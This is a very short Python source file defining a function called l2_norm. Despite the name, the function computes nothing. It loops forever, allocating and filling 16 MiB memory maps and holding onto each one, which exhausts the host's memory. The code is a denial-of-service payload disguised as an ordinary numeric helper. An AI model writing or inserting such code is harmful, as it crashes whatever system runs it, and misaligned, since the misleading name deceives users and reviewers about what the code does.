import mmap

def l2_norm(x):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**24))
        kept[-1].write(bytes(2**24))
